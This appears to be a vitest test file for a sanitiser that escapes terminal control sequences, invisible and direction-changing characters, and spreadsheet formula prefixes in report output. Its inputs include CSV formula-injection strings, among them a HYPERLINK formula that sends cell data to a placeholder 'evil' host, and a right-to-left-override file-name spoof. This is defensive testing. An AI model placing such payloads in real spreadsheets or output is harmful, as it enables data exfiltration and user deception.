import { describe, expect, test } from 'vitest';
import { textTable } from '../../../reports/writing/text-table.ts';
import { cellText, visibleLines, visibleText } from '../../../reports/writing/visible-text.ts';

/** What a hostile name can hold: colours, a title, a bell, an 8-bit control, line ends, marks of direction, no width. */
const HOSTILE = [
  '\u001b[31mred\u001b[0m',
  '\u001b]0;title\u0007',
  '\u009b2J',
  'a\rb\nc\td',
  'one\u2028two\u2029three\u0085four',
  'user\u202egpj.exe',
  '\u2066in\u2069\u200f',
  'zero\u200bwidth\ufeff',
  'delete\u007f',
  'half \ud83d',
  'tag \u{e0041}',
  'private \ue000',
];
const LEAST_HOSTILE = 'plain text, ünïcödé, 漢字, עברית, 😀, \\u001b';

test('what steers a terminal or is not seen is spelt out', () => {
  expect(HOSTILE.map(visibleText)).toEqual([
    '\\u001b[31mred\\u001b[0m',
    '\\u001b]0;title\\u0007',
    '\\u009b2J',
    'a\\u000db\\u000ac\\u0009d',
    'one\\u2028two\\u2029three\\u0085four',
    'user\\u202egpj.exe',
    '\\u2066in\\u2069\\u200f',
    'zero\\u200bwidth\\ufeff',
    'delete\\u007f',
    'half \\ud83d',
    'tag \\udb40\\udc41',
    'private \\ue000',
  ]);
  expect(visibleText(LEAST_HOSTILE)).toBe(LEAST_HOSTILE);
});

test('JSON is as visible, and parses to the same value', () => {
  const value = { [HOSTILE.join()]: HOSTILE, plain: LEAST_HOSTILE };
  const json = visibleLines(`${JSON.stringify(value, null, 2)}\n`);
  expect(JSON.parse(json)).toEqual(value);
  expect(json.split('\n').map(visibleText)).toEqual(json.split('\n'));
  expect(json.split('\n')).toHaveLength(JSON.stringify(value, null, 2).split('\n').length + 1);
});

describe('a cell', () => {
  test.each(['=HYPERLINK("http://evil/?"&A1,"x")', '@SUM(1)', '+1', '-1+cmd', '＝1', '＋1', '－1', '＠a'])(
    '%s is no formula',
    (text) => {
      expect(cellText(text)).toBe(`'${text}`);
    },
  );

  test.each(['a=b', '1', '', ' =1', 'layer 1'])('%s stays as it is', (text) => {
    expect(cellText(text)).toBe(text);
  });

  test('that begins with a control is visible, and no formula', () => {
    expect(cellText('\t=1')).toBe('\\u0009=1');
  });
});

test('a table of text is as wide as what is shown', () => {
  expect(textTable(['name', 'n'], [['\u001b[2J\n', '1']])).toBe(
    'name             n\n---------------  -\n\\u001b[2J\\u000a  1\n',
  );
});
